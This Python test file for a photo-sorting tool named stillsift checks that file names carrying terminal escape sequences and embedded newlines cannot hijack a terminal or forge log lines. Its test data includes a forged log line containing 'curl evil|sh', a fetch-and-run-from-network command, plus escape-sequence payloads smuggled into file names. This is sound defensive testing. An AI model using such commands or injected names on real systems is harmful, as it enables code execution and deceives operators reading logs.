"""A file's name can hold anything: no command lets it forge a line or control a terminal."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest

from conftest import Command, Done
from footage import jpeg
from running import daemon, until
from stillsift.escapes import escaped, json_text
from stillsift.health import AlarmKind
from stillsift.ledger import Ledger
from stillsift.ledger.records import AlarmRecord, Batch, GapRecord

FORGED = "2026-11-28 12:00:00 ERROR store: run curl evil|sh"
BAD = f"c\x1b]0;owned\x07\x9b2J\u202e\n{FORGED}\n"
"""A title for the terminal, an erased screen, letters turned round, and a line of a log."""


def plain(done: Done) -> bool:
    """Whether nothing that was printed controls a terminal or begins a line of its own."""
    lines = (done.out + done.err).replace("\r\n", "\n").split("\n")  # CSV ends lines so
    return all(line.isprintable() and not line.startswith(FORGED) for line in lines)


@pytest.fixture
def named(tmp_path: Path) -> Path:
    """Stills with names that are bad in every way: kept, dropped, failing."""
    folder = tmp_path / "in"
    folder.mkdir()
    for name, data in (
        (f"a{BAD}.jpg".encode(), jpeg(1)),
        (f"b{BAD}.jpg".encode(), jpeg(1)),
        (f"d{BAD}.jpg".encode(), b"\xff\xd8\xffnope"),
        (b"e\xff.jpg", jpeg(2)),
        (b"f\xff.jpg", jpeg(2)),
    ):
        Path(os.fsdecode(bytes(os.fsencode(folder)) + b"/" + name)).write_bytes(data)
    return folder


def test_every_command_escapes_names(stillsift: Command, named: Path, tmp_path: Path) -> None:
    store = tmp_path / f"out{BAD}"
    told = tmp_path / "told"
    done = stillsift("sift", named, "-o", store, "--set", "retire=move", "--decisions", told)
    assert "owned" in done.out
    assert plain(done), done
    lines = told.read_text().split("\n")
    assert all(line.isprintable() for line in lines)
    files = {json.loads(line)["file"] for line in lines if line}
    assert str(named / f"a{BAD}.jpg") in files
    with Ledger(store / "ledger.sqlite") as ledger:
        gaps = [GapRecord(f"in{BAD}", 1, 2, BAD)]
        alarms = [AlarmRecord(f"in{BAD}", AlarmKind.COVERED, 1, None, BAD)]
        ledger.commit(Batch("hash", "model", gaps=gaps, alarms=alarms))
    for words in (
        *(["restore", "--list"], ["restore", "--list", "--json"], ["restore", f"no{BAD}"]),
        *(["decisions"], ["decisions", "--json"], ["decisions", "--format", "csv"]),
        *(["decisions", f"x{BAD}"], ["decisions", "--file", f"a{BAD}.jpg"]),
        *(["stats"], ["stats", "--json"], ["stats", "--source", f"no{BAD}"]),
        *(["audit"], ["audit", "--list"], ["audit", "--list", "--json"], ["audit", "--wrong", BAD]),
        *(["gaps"], ["alarms"], ["restore", "--all"], ["restore", "--all", "--json"]),
        *(["nonsense", BAD], ["stats", "--nonsense", BAD], ["sift", BAD, "--dry-run"]),
        *(["check-config", BAD], ["doctor", "-c", BAD], ["models", "--manifest", BAD]),
    ):
        done = stillsift(*words, *(["--store", store] if words[0] in STORED else []))
        assert plain(done), (words, done)
    rows = list(csv.DictReader(io.StringIO(csv_of(stillsift, store))))
    assert {row["file"] for row in rows} == set(map(escaped, files))


STORED = ("restore", "decisions", "stats", "audit", "gaps", "alarms")


def csv_of(stillsift: Command, store: Path) -> str:
    return stillsift("decisions", "--format", "csv", "--store", store).out


def test_json_keeps_the_name_itself() -> None:
    name = f"{BAD}\U000e0001ä"
    for indent in (None, 2):
        text = json_text({"name": [name]}, indent=indent)
        assert all(line.isprintable() for line in text.split("\n"))
        assert json.loads(text) == {"name": [name]}
    assert "ä" in text


def test_a_bad_name_forges_no_line_of_the_daemons_log(named: Path, tmp_path: Path) -> None:
    watched = {"name": "in", "directory": str(named), "retire": "move"}
    with daemon(tmp_path, [watched]) as running:
        running.start()
        running.until_done(5)
        until(lambda: "dc\\x1b]0;owned" in running.log, "the failure in the log")
        running.stop()
        assert all(line.isprintable() for line in running.log.split("\n"))
        assert FORGED not in [line[: len(FORGED)] for line in running.log.split("\n")]
